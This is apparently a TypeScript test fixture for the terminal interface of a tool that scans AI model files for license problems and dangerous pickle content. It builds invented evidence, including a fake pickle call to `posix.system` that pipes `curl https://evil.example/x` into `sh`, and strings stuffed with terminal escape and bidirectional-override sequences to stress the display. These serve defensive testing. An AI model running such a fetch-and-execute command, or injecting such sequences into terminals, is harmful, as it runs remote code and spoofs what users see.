import type { Assessment, Report } from "../../src/judgement.ts";
import type { GlobalUse, Inspection, LicenseText, LineageNode, ModelEvidence } from "../../src/model.ts";
import type { Given, State } from "../../src/tui/state.ts";
import { fixture } from "../report/fixture.ts";

/** The invented models of the report's tests, with the evidence that only the terminal interface shows. */

export const ESCAPES = "\u001b]0;owned\u0007\u001b[2J\u202e\u2066\r\n";

const terms: LicenseText = {
  path: "LICENSE",
  role: "license",
  covers: "any",
  size: 11_358,
  sha256: "3f1c".padEnd(64, "a7"),
  identification: {
    expression: "Apache-2.0",
    matches: [
      {
        text: "Apache-2.0",
        expression: "Apache-2.0",
        kind: "license",
        coverage: 0.9874,
        share: 0.97,
        exact: false,
        modified: true,
        line: 1,
        endLine: 203,
        changes: [
          {
            kind: "added",
            line: 190,
            endLine: 192,
            quote: `You may not use it in products with more than 30 million users ${ESCAPES}`,
            clause: "9",
            material: true,
            because: ["30 million"],
          },
          { kind: "removed", line: 57, endLine: 57, clause: "2", material: false, because: [] },
          {
            kind: "changed",
            line: 12,
            endLine: 12,
            quote: "above 70 million",
            material: true,
            because: ["70 million"],
            holds: ["700 million"],
          },
        ],
      },
    ],
    pointers: [{ kind: "spdx", value: "Apache-2.0", line: 204 }],
    unrecognised: false,
    empty: false,
  },
};

const pickle = (globals: readonly GlobalUse[]): Inspection => ({
  path: "pytorch_model.bin",
  format: "torch-zip",
  size: 1_340_000_000,
  verdict: "dangerous",
  globals,
  observations: [
    {
      finding: "pickle-stack-tricks",
      verdict: "review",
      message: "pops what it pushed",
      member: "archive/data.pkl",
      at: { offset: 0x90 },
    },
  ],
});

const DANGEROUS: readonly GlobalUse[] = [
  {
    global: "torch._utils._rebuild_tensor_v2",
    class: "framework",
    offset: 0x1a,
    member: "archive/data.pkl",
    reason: "rebuilds a tensor",
  },
  {
    global: "posix.system",
    class: "dangerous",
    offset: 0x2f,
    member: "archive/data.pkl",
    reason: "runs a shell command",
    call: `posix.system("curl https://evil.example/x | sh${ESCAPES}")`,
  },
];

const base = (id: string, more: Partial<LineageNode>): LineageNode => ({
  id,
  status: "read",
  texts: [],
  tags: [],
  parents: [],
  namedAt: { kind: "card", place: { path: "README.md", at: { line: 9 } } },
  ...more,
});

const lineage: readonly LineageNode[] = [
  base("meta-llama/Llama-3.1-8B", {
    relation: "finetune",
    status: "gated",
    commit: "d04e592b".padEnd(40, "0"),
    parents: [base(`acme/${ESCAPES}root`, { relation: "merge" }), base("acme/other", { status: "missing" })],
  }),
  base("acme/merged-使用禁止", { relation: "merge", status: "cycle" }),
];

const more: Partial<ModelEvidence> = {
  files: [
    { path: "README.md", size: 5120, gitOid: "1".repeat(40), sha256: "2".repeat(64) },
    { path: "config.json", size: 683, gitOid: "3".repeat(40) },
    {
      path: "pytorch_model.bin",
      size: 1_340_000_000,
      gitOid: "4".repeat(40),
      sha256: "5".repeat(64),
      lfs: true,
    },
    { path: `weights/${ESCAPES}${"w".repeat(300)}.bin`, size: 0, unsized: true },
  ],
  texts: [terms],
  artifacts: [pickle(DANGEROUS)],
  lineage,
  remoteCode: [
    {
      path: "config.json",
      key: "auto_map.AutoModel",
      line: 7,
      target: "modeling.Acme",
      files: ["modeling.py"],
    },
  ],
  hub: { gated: "manual", tags: [], renamedTo: "acme/faster" },
  identity: { id: "65f0c0ffee", createdAt: "2025-01-02T03:04:05.000Z" },
  missing: [{ axis: "license", path: "LICENSE", unread: { state: "gated", message: "401 GatedRepo" } }],
};

function enriched(model: Assessment): Assessment {
  return model.evidence === undefined ? model : { ...model, evidence: { ...model.evidence, ...more } };
}

/** The report of five models, each with texts, a pickle, files, bases and what could not be read. */
export function report(): Report {
  const whole = fixture();
  return { ...whole, models: whole.models.map(enriched) };
}

/** One model whose every string is chosen to break a screen. */
export function hostile(): Assessment {
  const [model] = fixture().models;
  if (model === undefined) throw new Error("the fixture has models");
  const long = `${ESCAPES}${"x".repeat(10_000)}👩‍👩‍👧‍👦🇩🇪使用禁止${"e\u0301\u0302\u0303\u0304\u0305\u0306".repeat(40)}\u200b`;
  const finding = {
    id: "pickle-dangerous-global",
    axis: "load" as const,
    posture: "blocked" as const,
    message: long,
    why: long,
    fix: `models:\n  - id: ${long}`,
    evidence: [
      {
        kind: "artifact",
        place: { path: long, member: long, at: { offset: 47 } },
        quote: `${long}\n${long}`,
      },
    ] as const,
  };
  return enriched({
    ...model,
    model: { ...model.model, id: `acme/${long}`, revision: long },
    posture: "blocked",
    axes: { license: "review", load: "blocked", provenance: "clear" },
    meetsPolicy: false,
    license: {
      expression: long,
      family: long,
      basis: "declared",
      declared: [long, long],
      conflict: true,
      texts: [long],
    },
    findings: [finding, { ...finding, id: long, posture: "clear" }],
    duties: [{ id: "d", license: long, clause: long, text: long }],
    questions: [
      {
        fact: "use",
        because: long,
        license: long,
        outcomes: { [long]: "blocked", internal: "clear" },
        yaml: `deployment:\n  use: ${long}`,
      },
    ],
  });
}

export const given: Given = {
  terminal: { isTTY: true, width: 80, color: false, unicode: true, links: false },
  title: "models.yaml",
  online: false,
  rulePack: "1.0.0",
  failOn: "review",
  endpoint: "https://hub.example",
  waiver: (finding, { model }) =>
    `waivers:\n  - finding: ${finding}\n    model: ${model.id}\n    reason: ""  # why\n`,
  explain: async (id) => `${id}\n\nwhat it means`,
};

export type { State };
